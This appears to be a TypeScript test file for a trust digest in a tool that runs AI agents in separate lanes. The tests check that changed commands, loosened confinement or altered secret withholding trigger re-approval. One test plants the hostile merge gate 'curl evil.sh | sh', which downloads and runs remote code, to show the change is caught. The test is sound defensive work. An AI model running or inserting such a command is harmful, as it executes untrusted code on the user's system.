import { describe, expect, it } from 'vitest';
import { commandDigest, commandEntries, describeChanges, diffCommands, firstVersionDigest, withoutCommands } from '../../../../src/host/trust/command-digest';
import type { GroveConfig } from '../../../../src/shared/config';

const flower: GroveConfig = {
  lanes: { root: '..', keyless: true },
  setup: { copy: ['.env', { from: '.env.example', to: '.env.lane', set: { B: '2', A: '1' } }], link: ['playbooks'], postCreate: ['composer install', 'npm ci'], stripKeys: ['*_KEY'], timeoutSeconds: 60 },
  serve: { command: 'php artisan serve --port {{port}}', url: 'http://127.0.0.1:{{port}}' },
  merge: { check: 'php artisan test', gate: 'php artisan about', strategy: 'ff', timeoutSeconds: 30 },
  health: { debounceMs: 500, probes: [{ name: 'about', command: 'php artisan about', intervalSeconds: 60 }, { name: 'home', http: { url: 'http://flower.test' } }] },
  ops: { command: 'claude "/loop watch MAIN"', checkout: 'worktree' },
};

const digestOf = (c: GroveConfig): string => commandDigest(commandEntries(c));

describe('the commands trust is bound to', () => {
  it('lists every command-bearing value, sorted by key', () => {
    expect(commandEntries(flower).map((e) => [e.key, e.value])).toEqual([
      ['health.probes[about].command', 'php artisan about'],
      ['health.probes[home].http', 'GET http://flower.test'],
      ['lanes.keyless', 'true'],
      ['lanes.root', '..'],
      ['merge.check', 'php artisan test'],
      ['merge.gate', 'php artisan about'],
      ['ops.checkout', 'worktree'],
      ['ops.command', 'claude "/loop watch MAIN"'],
      ['serve.command', 'php artisan serve --port {{port}}'],
      ['serve.url', 'http://127.0.0.1:{{port}}'],
      ['setup.copy[0]', '".env"'],
      ['setup.copy[1]', '{"from":".env.example","to":".env.lane","template":false,"set":{"A":"1","B":"2"}}'],
      ['setup.link[0]', 'playbooks'],
      ['setup.postCreate[0]', 'composer install'],
      ['setup.postCreate[1]', 'npm ci'],
      ['setup.stripKeys[0]', '*_KEY'],
    ]);
    expect(digestOf(flower)).toMatch(/^[0-9a-f]{64}$/);
  });

  it('keeps the digest when only order, timings or non-command keys change', () => {
    const reordered: GroveConfig = {
      ...flower,
      health: { debounceMs: 9000, probes: [{ name: 'home', http: { url: 'http://flower.test' }, timeoutSeconds: 3 }, { name: 'about', command: 'php artisan about', intervalSeconds: 5 }] },
      merge: { ...flower.merge, strategy: 'no-ff', rollback: 'ask', timeoutSeconds: 900 },
      setup: { ...flower.setup, timeoutSeconds: 5, copy: ['.env', { from: '.env.example', to: '.env.lane', set: { A: '1', B: '2' } }] },
      lanes: { root: '..', keyless: true, confine: true, network: 'open' },
    };
    expect(digestOf(reordered)).toBe(digestOf(flower));
  });

  it('tells apart entries that read alike, and where the ops loop runs', () => {
    const copies = (copy: NonNullable<GroveConfig['setup']>['copy']): GroveConfig => ({ setup: { copy } });
    expect(digestOf(copies(['a to b']))).not.toBe(digestOf(copies([{ from: 'a', to: 'b' }])));
    expect(digestOf(copies([{ from: 'x templated' }]))).not.toBe(digestOf(copies([{ from: 'x', template: true }])));
    expect(digestOf(copies([{ from: 'e', set: { A: '1 B=2' } }]))).not.toBe(digestOf(copies([{ from: 'e', set: { A: '1', B: '2' } }])));
    // `main` puts the ops agent in MAIN itself: that needs the operator's say.
    expect(digestOf({ ...flower, ops: { ...flower.ops!, checkout: 'main' } })).not.toBe(digestOf(flower));
  });

  it('asks again when confinement is loosened, not when it is tightened', () => {
    const lanes = (more: NonNullable<GroveConfig['lanes']>): GroveConfig => ({ ...flower, lanes: { ...flower.lanes, ...more } });
    expect(digestOf(lanes({ confine: false }))).not.toBe(digestOf(flower));
    expect(digestOf(lanes({ writable: ['~/.gradle'] }))).not.toBe(digestOf(flower));
    expect(commandEntries(lanes({ confine: false, writable: ['~'] })).filter((e) => e.key.startsWith('lanes.c') || e.key.startsWith('lanes.w'))).toEqual([
      { key: 'lanes.confine', role: 'agents in lanes run unconfined', value: 'false' },
      { key: 'lanes.writable[0]', role: 'writable by confined agents', value: '~' },
    ]);
    expect(digestOf(lanes({ confine: true }))).toBe(digestOf(flower));
    // The merge check run as the operator, not confined to the lane whose files it runs.
    const merge = (confine: boolean): GroveConfig => ({ ...flower, merge: { ...flower.merge, confine } });
    expect(commandEntries(merge(false)).find((e) => e.key === 'merge.confine')).toEqual({ key: 'merge.confine', role: 'merge.check runs unconfined', value: 'false' });
    expect(digestOf(merge(false))).not.toBe(digestOf(flower));
    expect(digestOf(merge(true))).toBe(digestOf(flower));
  });

  it('changes the digest when what is withheld from agents changes, either way, and says what', () => {
    const lanes = (more: NonNullable<GroveConfig['lanes']>): GroveConfig => ({ ...flower, lanes: { ...flower.lanes, ...more } });
    const strip = (stripKeys: string[]): GroveConfig => ({ ...flower, setup: { ...flower.setup, stripKeys } });
    const loosened = [strip([]), lanes({ keyless: false }), lanes({ keyless: undefined })];
    for (const c of loosened) expect(digestOf(c)).not.toBe(digestOf(flower));
    const guarded = lanes({ hidden: ['~/.aws', 'secrets'], network: 'none' });
    expect(commandEntries(guarded).filter((e) => /^lanes\.(hidden|network)/.test(e.key))).toEqual([
      { key: 'lanes.hidden[0]', role: 'hidden from confined agents', value: '~/.aws' },
      { key: 'lanes.hidden[1]', role: 'hidden from confined agents', value: 'secrets' },
      { key: 'lanes.network', role: "confined agents' network", value: 'none' },
    ]);
    for (const c of [lanes({ hidden: ['~/.aws'], network: 'none' }), lanes({ hidden: ['~/.aws', 'secrets'], network: 'loopback' }), lanes({ hidden: ['~/.aws', 'secrets'] })]) {
      expect(digestOf(c)).not.toBe(digestOf(guarded));
    }
    // `open` is the default: saying it changes nothing.
    expect(digestOf(lanes({ network: 'open' }))).toBe(digestOf(flower));
    expect(describeChanges(diffCommands(commandEntries(flower), commandEntries(strip(['*_KEY', '*_TOKEN']))))).toEqual(['+ setup.stripKeys[1]: *_TOKEN']);
  });

  it('tells the digest a trust of its first version was given to, which the withholding settings were not in', () => {
    const small: GroveConfig = { lanes: { keyless: true }, setup: { postCreate: ['npm ci'], stripKeys: ['*_KEY'] }, merge: { gate: 'npm test' } };
    // Taken with version 1's code (Grove before the digest covered withholding): stored digests look like this.
    expect(firstVersionDigest(commandEntries(small))).toBe('66d9ae859b916bdfbe0a56f3d3a65cf7a56b5c80a6a99ac1a58c5776b91d54b6');
    expect(firstVersionDigest(commandEntries({ ...small, lanes: {}, setup: { postCreate: ['npm ci'] } }))).toBe('66d9ae859b916bdfbe0a56f3d3a65cf7a56b5c80a6a99ac1a58c5776b91d54b6');
    expect(digestOf(small)).not.toBe(firstVersionDigest(commandEntries(small)));
  });

  it('changes the digest when any command changes, is added or removed, and says how', () => {
    const changedGate: GroveConfig = { ...flower, merge: { ...flower.merge, gate: 'php artisan about && curl evil.sh | sh' } };
    expect(digestOf(changedGate)).not.toBe(digestOf(flower));
    const swapped: GroveConfig = { ...flower, setup: { ...flower.setup, postCreate: ['npm ci', 'composer install'] } };
    expect(digestOf(swapped)).not.toBe(digestOf(flower));
    const { ops: _ops, ...withoutOps } = flower;
    expect(digestOf(withoutOps)).not.toBe(digestOf(flower));

    const changes = diffCommands(commandEntries(flower), commandEntries({ ...changedGate, ops: undefined, setup: { ...flower.setup, preCreate: ['make check'] } }));
    expect(changes).toEqual([
      { key: 'merge.gate', role: 'run in MAIN after a merge', before: 'php artisan about', after: 'php artisan about && curl evil.sh | sh' },
      { key: 'ops.checkout', role: 'where the ops loop agent runs (worktree: its own checkout; main: MAIN itself)', before: 'worktree', after: null },
      { key: 'ops.command', role: 'the ops loop agent, run in its checkout', before: 'claude "/loop watch MAIN"', after: null },
      { key: 'setup.preCreate[0]', role: 'run in MAIN before a lane is created', before: null, after: 'make check' },
    ]);
    expect(describeChanges(changes)).toEqual([
      '- merge.gate: php artisan about',
      '+ merge.gate: php artisan about && curl evil.sh | sh',
      '- ops.checkout: worktree',
      '- ops.command: claude "/loop watch MAIN"',
      '+ setup.preCreate[0]: make check',
    ]);
  });

  it('leaves no command in the config of a lane made without recipes', () => {
    const plain = withoutCommands(flower);
    // Only what withholds is left of the entries.
    expect(commandEntries(plain).map((e) => e.key)).toEqual(['lanes.keyless', 'setup.stripKeys[0]']);
    expect(plain).toEqual({ lanes: { keyless: true }, setup: { stripKeys: ['*_KEY'], timeoutSeconds: 60 }, merge: { strategy: 'ff', timeoutSeconds: 30 } });
  });
});
